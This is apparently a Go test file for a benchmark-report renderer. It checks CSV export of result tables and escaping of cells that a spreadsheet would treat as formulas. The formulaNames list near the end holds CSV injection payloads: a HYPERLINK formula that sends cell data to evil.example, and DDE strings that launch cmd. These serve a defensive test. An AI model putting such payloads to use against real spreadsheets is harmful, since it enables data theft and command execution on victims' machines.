package render

import (
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/iopress/iopress/analyze"
	"github.com/iopress/iopress/datasets"
	"github.com/iopress/iopress/ingest"
	"github.com/iopress/iopress/render/table"
)

// csvFigure is one base-unit figure of a table's CSV: the line's column
// heading, the table's title, the column's quantity and the figure.
type csvFigure struct {
	column, table, quantity string
	value                   float64
}

// tableCSVs writes the article's tables as CSV through output.WriteDir and reads
// them back: every base-unit figure, after checking that each displayed
// figure is the table's text for that cell, and that a figure is given
// exactly where the table shows one.
func tableCSVs(t *testing.T, art *Article) []csvFigure {
	t.Helper()
	dir := t.TempDir()
	paths, err := WriteDirForTest(dir, art, "csv")
	if err != nil {
		t.Fatal(err)
	}
	if len(paths) != len(art.Tables) {
		t.Fatalf("wrote %d CSV files for %d tables", len(paths), len(art.Tables))
	}
	var figures []csvFigure
	for _, tb := range art.Tables {
		f, err := os.Open(filepath.Join(dir, tb.Name+".csv"))
		if err != nil {
			t.Fatal(err)
		}
		lines, err := csv.NewReader(f).ReadAll()
		f.Close()
		if err != nil {
			t.Fatalf("%s.csv: %v", tb.Name, err)
		}
		// Laid out as the table: a line per row, a column (and its
		// printed twin) per column.
		if len(lines) != 1+len(tb.Rows) {
			t.Fatalf("%s.csv: %d lines, want a header and one per row of the table (%d)", tb.Name, len(lines), len(tb.Rows))
		}
		var columns []string
		for _, g := range tb.Groups {
			for _, s := range tb.Systems {
				columns = append(columns, s)
				if h := lines[0][2+2*(len(columns)-1)]; h != strings.TrimPrefix(g+" · "+s, " · ") || lines[0][3+2*(len(columns)-1)] != h+" (printed)" {
					t.Errorf("%s.csv: column %q, want the table's %q and %q", tb.Name, h, g, s)
				}
			}
		}
		for r, row := range tb.Rows {
			line := lines[1+r]
			if len(line) != 2+2*len(columns) || line[1] != row.Quantity {
				t.Fatalf("%s.csv line %d: %q, want the row's quantity %q and two columns for each of %d", tb.Name, r+2, line, row.Quantity, len(columns))
			}
			for i, column := range columns {
				base, shown := line[2+2*i], line[3+2*i]
				cell := row.Cells[i]
				if shown != cell.Text {
					t.Errorf("%s.csv line %d, %s: shows %q, the table %q", tb.Name, r+2, row.Label, shown, cell.Text)
				}
				if (base != "") != cell.HasValue {
					t.Errorf("%s.csv line %d, %s: base figure %q for the table's %q", tb.Name, r+2, row.Label, base, cell.Text)
				}
				if base == "" {
					continue
				}
				v, err := strconv.ParseFloat(base, 64)
				if err != nil {
					t.Errorf("%s.csv line %d: %v", tb.Name, r+2, err)
				}
				figures = append(figures, csvFigure{column, tb.Title, row.Quantity, v})
			}
		}
	}
	return figures
}

// sameFigures compares two lists of figures as sets with repeats, with
// exact float64 equality.
func sameFigures(t *testing.T, got, want []csvFigure) {
	t.Helper()
	key := func(fs []csvFigure) []string {
		var out []string
		for _, f := range fs {
			out = append(out, f.column+"|"+f.table+"|"+f.quantity+"|"+strconv.FormatFloat(f.value, 'g', -1, 64))
		}
		slices.Sort(out)
		return out
	}
	g, w := key(got), key(want)
	if len(w) == 0 {
		t.Fatal("no figures expected: the test proves nothing")
	}
	if !slices.Equal(g, w) {
		t.Errorf("CSV figures differ from the analysis:\n got %d: %v\nwant %d: %v", len(g), g, len(w), w)
	}
}

// TestCSVHoldsTheAnalysedFigures: every base-unit figure of every table's
// CSV is the figure analyze computed, each exactly once, for each kind of
// table: a comparison's (with changes against a baseline), a sweep's and a
// CrystalDiskMark grid's; the displayed figures are the tables' text.
func TestCSVHoldsTheAnalysedFigures(t *testing.T) {
	t.Run("comparison", func(t *testing.T) {
		ds, err := datasets.Bundled(datasets.DefaultBundled)
		if err != nil {
			t.Fatal(err)
		}
		a, err := analyze.Compare(ds.Results, analyze.Options{Baseline: "Linux libaio"})
		if err != nil {
			t.Fatal(err)
		}
		art, err := Build(ds, a, Options{})
		if err != nil {
			t.Fatal(err)
		}
		got := tableCSVs(t, art)
		var want []csvFigure
		for _, c := range a.Comparisons {
			if c.Metric.Family == analyze.FamilyEfficiency {
				continue
			}
			for _, f := range c.Ranking {
				want = append(want, csvFigure{column: f.System, quantity: c.Metric.Name, value: f.Value})
			}
		}
		for _, d := range a.Deltas {
			if d.Metric.Family != analyze.FamilyEfficiency {
				want = append(want, csvFigure{quantity: d.System + ":" + d.Metric.Name + "_change_pct", value: d.Pct})
			}
		}
		// The comparison tables' lines are systems; the change tables'
		// are workloads, their rows the systems.
		for i := range got {
			got[i].table = ""
			if strings.Contains(got[i].quantity, ":") {
				got[i].column = ""
			}
		}
		sameFigures(t, got, want)
	})
	t.Run("sweep", func(t *testing.T) {
		ds, s := realSweep(t)
		art, err := BuildSweep(ds, s, Options{})
		if err != nil {
			t.Fatal(err)
		}
		got := tableCSVs(t, art)
		var want []csvFigure
		for _, c := range s.Curves {
			for _, p := range c.Points {
				want = append(want, csvFigure{column: qd(p.IODepth), quantity: c.System + ":" + c.Metric.Name, value: p.Value})
				if finite(p.LatencyNs) {
					want = append(want, csvFigure{column: qd(p.IODepth), quantity: c.System + ":" + analyze.LatencyMean.Name, value: p.LatencyNs})
				}
			}
		}
		for i := range got {
			got[i].table = ""
		}
		sameFigures(t, got, want)
	})
	t.Run("cdm", func(t *testing.T) {
		ds, errs := ingest.Read(context.Background(), []string{"../ingest/cdm/testdata/samples/crystaldiskmark"}, ingest.Options{})
		if len(errs) > 0 {
			t.Fatal(errs)
		}
		a, err := analyze.Compare(ds.Results, analyze.Options{})
		if err != nil {
			t.Fatal(err)
		}
		art, err := BuildCDM(ds, a, Options{})
		if err != nil {
			t.Fatal(err)
		}
		got := tableCSVs(t, art)
		var want []csvFigure
		for _, c := range a.Comparisons {
			switch c.Metric.Name {
			case analyze.Bandwidth.Name, analyze.IOPS.Name, analyze.LatencyMean.Name:
			default:
				continue
			}
			for _, f := range c.Ranking {
				// A table per direction, a column per drive, a row per
				// test and metric.
				want = append(want, csvFigure{column: f.System, quantity: testOf(c.Cell).cdmName() + ":" + c.Metric.Name, value: f.Value})
			}
		}
		for i := range got {
			got[i].table = ""
		}
		sameFigures(t, got, want)
	})
}

// Names a spreadsheet would run as formulas, as OWASP lists their
// starts, and what each must read as once written.
var formulaNames = []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `+cmd|'/C calc'!A0`, `-2+3+cmd|'/C calc'!A0`, `@SUM(1+1)*cmd|'/C calc'!A0`, "\t=1+1", "\r=1+1"}

// TestCSVCellsAreNeverFormulas: a cell that starts a formula is written
// after a "'", which a spreadsheet shows as text; a number, negative or
// in a language's digits, and "-" (no figure) are written as they are.
func TestCSVCellsAreNeverFormulas(t *testing.T) {
	for _, name := range formulaNames {
		if got := csvCell(name); got != "'"+name {
			t.Errorf("%q is written %q, want it after a '", name, got)
		}
	}
	for _, n := range []string{"-12.5", "+3e-06", "-1.5e+300", "-12.3%", "+17.3%", "−2,5 %", "-", "-Inf", "+Inf", "NaN", "-२६,३६,५१६", "1,234.5", "io_uring", ""} {
		if got := csvCell(n); got != n {
			t.Errorf("%q is written %q, want it as it is", n, got)
		}
	}
	for _, n := range []string{"-E1", "-e", "+", "=1", "-1+A1", "-1 (x)"} {
		if got := csvCell(n); got != "'"+n {
			t.Errorf("%q is written %q, want it after a '", n, got)
		}
	}
}

// TestTableCSVEscapesFormulaNames: systems named as formulas reach a
// table's CSV after a "'", and their figures, negative ones too, as
// numbers; the md format's CSV is the same file.
func TestTableCSVEscapesFormulaNames(t *testing.T) {
	tb := &Table{Table: table.Table{Name: "table-1", Title: "Changes", Groups: []string{""}, Systems: formulaNames,
		Rows: []TableRow{{Label: "Change", Unit: "%", Quantity: "iops_change_pct"}}}}
	for i := range formulaNames {
		v := -12.5 * float64(i+1)
		tb.Rows[0].Cells = append(tb.Rows[0].Cells, TableCell{Text: strconv.FormatFloat(v, 'f', 1, 64) + "%", Value: v, HasValue: true})
	}
	var b strings.Builder
	if err := WriteCSVForTest(&b, tb); err != nil {
		t.Fatal(err)
	}
	lines, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"row", "quantity"}
	line := []string{"Change (%)", "iops_change_pct"}
	for i, name := range formulaNames {
		want = append(want, "'"+name, "'"+name+" (printed)")
		line = append(line, strconv.FormatFloat(-12.5*float64(i+1), 'f', -1, 64), strconv.FormatFloat(-12.5*float64(i+1), 'f', 1, 64)+"%")
	}
	if len(lines) != 2 || !slices.Equal(lines[0], want) || !slices.Equal(lines[1], line) {
		t.Errorf("%q, want %q and %q", lines, want, line)
	}
}
